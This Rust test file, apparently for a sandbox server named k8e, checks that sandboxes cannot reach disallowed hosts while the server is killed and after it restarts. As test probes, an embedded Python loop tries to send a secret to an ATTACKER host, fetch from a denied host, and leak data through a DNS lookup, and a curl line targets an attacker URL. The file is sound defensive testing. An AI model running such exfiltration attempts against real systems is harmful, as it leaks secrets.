//! What `kill -9` of the server leaves: sandboxes that reach nothing, until it is back with
//! exactly the rules they had.

use super::{Inside, RUNTIMES, World, becomes};
use k8e_e2e::internet::{ATTACKER, CDN};
use std::time::Duration;

/// Runs on in the sandbox: tries everything again and again, and writes down what worked.
const LOOP: &str = r#"
import threading
def attempts():
    yield "good", lambda: say(address, 80, get("good.example", "/loop"), wait=1)
    yield "ESCAPED bad", lambda: say(address, 80, get("bad.example"), wait=1)
    yield "ESCAPED attacker", lambda: say(ATTACKER, 443, hello("bad.example"), wait=1)
    yield "ESCAPED echo", lambda: say(ATTACKER, 7777, SECRET, wait=1)
    yield "ESCAPED name", lambda: str(resolve("k8e-secret.attacker.example") or "").encode()
def again(name, attempt):
    while True:
        if not refused(attempt()):
            with open("/tmp/worked", "a") as file: file.write(name + "\n")
        time.sleep(0.03)
address = resolve("good.example")[0]
for name, attempt in attempts(): threading.Thread(target=again, args=(name, attempt)).start()
"#;

fn start_loop(inside: &Inside<'_>) {
    let script = format!("{}\nATTACKER = '{ATTACKER}'\n{LOOP}", super::PRELUDE);
    inside.sh(&format!(
        "cat > /tmp/loop.py <<'EOF'\n{script}\nEOF\nsetsid python3 /tmp/loop.py >/dev/null 2>&1 &\n\
         for n in $(seq 100); do grep -q good /tmp/worked 2>/dev/null && exit 0; sleep 0.1; done; exit 1"
    ));
}

fn loops(world: &World) -> usize {
    let requests = world.internet.log().requests();
    let is_one = |request: &&k8e_e2e::internet::Request| request.target == "/loop";
    requests.iter().filter(is_one).count()
}

#[test]
fn sandboxes_are_closed_while_the_server_is_down() {
    let mut world = World::start(&[]);
    let mut ids = Vec::new();
    for runtime in RUNTIMES {
        let inside = world.session(runtime, &["--allowed-hosts", "good.example"]);
        // In the middle of something.
        let download = "setsid curl -s -o /dev/null http://good.example/drip >/dev/null 2>&1 &";
        inside.sh(download);
        start_loop(&inside);
        ids.push(inside.session.id);
    }
    for pause in [0, 30, 200, 1000] {
        // At any moment.
        std::thread::sleep(Duration::from_millis(300 + pause));
        world.server.kill();
        let open = || {
            world
                .internet
                .log()
                .connections()
                .iter()
                .any(|one| one.open)
        };
        becomes("every connection is closed", || !open());
        world.internet.forget();
        std::thread::sleep(Duration::from_millis(700));
        let packets = world.internet.log().packets();
        let arrived = packets
            .keys()
            .find(|to| to.protocol == 6 || to.protocol == 17);
        assert!(arrived.is_none(), "with the server down: {packets:#?}");
        world.server.restart();
        becomes("what is allowed works again", || loops(&world) > 4);
    }
    for id in &ids {
        let got = world.server.k8e(&["sandbox", "get", id]).json();
        assert_eq!(
            got["allowed_hosts"],
            serde_json::json!(["good.example"]),
            "{got}"
        );
        let read = [
            "sandbox",
            "run",
            "--raw",
            "--session-id",
            id,
            "cat /tmp/worked",
        ];
        let worked = world.server.k8e(&read).out();
        assert!(worked.contains("good"), "{worked}");
        assert!(!worked.contains("ESCAPED"), "{worked}");
    }
    assert!(!world.internet.log().contains(super::SECRET.as_bytes()));
    let mut reached = world.internet.reached();
    reached.retain(|to, _| (to.address, to.port) != (CDN.into(), 80));
    assert!(reached.is_empty(), "{reached:#?}");
}

#[test]
fn rules_survive_as_they_were_last() {
    let mut world = World::start(&["--denied-hosts", "bad.example"]);
    for runtime in RUNTIMES {
        let id = world
            .session(runtime, &["--allowed-hosts", "elsewhere.example"])
            .session
            .id;
        for n in 0..3 {
            let rules = format!("good.example,bad.example,n{n}.example");
            let allow = ["sandbox", "allow-hosts", &rules, "--session-id", &id];
            assert_eq!(world.server.k8e(&allow).code, 0);
            // At once: what was answered was kept.
            world.server.kill();
            world.server.restart();
            let got = world.server.k8e(&["sandbox", "get", &id]).json();
            let expected = rules.split(',').collect::<Vec<_>>();
            assert_eq!(got["allowed_hosts"], serde_json::json!(expected), "{got}");
            let curl = |name: &str| {
                let code = format!("curl -sSf --max-time 10 http://{name}/");
                let run = ["sandbox", "run", "--raw", "--session-id", &id, &code];
                world.server.k8e(&run)
            };
            assert_eq!(curl("good.example").code, 0);
            assert_ne!(curl("bad.example").code, 0);
            assert_ne!(curl("elsewhere.example").code, 0);
        }
    }
}

#[test]
fn whoever_is_made_while_the_server_dies_is_closed_too() {
    let mut world = World::start(&["--pool-min", "2", "--pool-max", "2"]);
    for wait in [5, 20, 60, 150] {
        let create = ["sandbox", "create", "--allowed-hosts", "good.example"];
        let mut creates: Vec<_> = (0..4)
            .map(|_| {
                let mut command = world.server.command(&create);
                command.stdout(std::process::Stdio::null());
                command.stderr(std::process::Stdio::null()).spawn().unwrap()
            })
            .collect();
        std::thread::sleep(Duration::from_millis(wait));
        world.server.kill();
        for create in &mut creates {
            create.wait().unwrap();
        }
        world.server.restart();
    }
    world.internet.forget();
    for id in world.server.session_ids() {
        let code = format!(
            "curl -sf --max-time 5 http://{ATTACKER}/k8e-secret && echo ESCAPED; curl -sSf --max-time 10 http://good.example/"
        );
        let run = ["sandbox", "run", "--raw", "--session-id", &id, &code];
        let ran = world.server.k8e(&run);
        assert_eq!(ran.code, 0, "{}", ran.all());
        assert!(!ran.out().contains("ESCAPED"), "{}", ran.all());
    }
    let mut reached = world.internet.reached();
    reached.retain(|to, _| (to.address, to.port) != (CDN.into(), 80));
    assert!(reached.is_empty(), "{reached:#?}");
}

#[test]
fn what_the_next_server_denies() {
    let mut world = World::start(&[]);
    let flags = ["--allowed-hosts", "good.example,other.example"];
    let ids = RUNTIMES.map(|runtime| world.session(runtime, &flags).session.id);
    let reaches = |world: &World, id: &str, name: &str| {
        let code = format!("curl -sSf --max-time 10 http://{name}/");
        let run = ["sandbox", "run", "--raw", "--session-id", id, &code];
        world.server.k8e(&run).code == 0
    };
    for id in &ids {
        assert!(reaches(&world, id, "other.example"));
    }
    world.server.kill();
    world
        .server
        .restart_with(&["--denied-hosts", "other.example"]);
    for id in &ids {
        // Also for sessions that are older than the list.
        assert!(!reaches(&world, id, "other.example"));
        assert!(reaches(&world, id, "good.example"));
    }
}
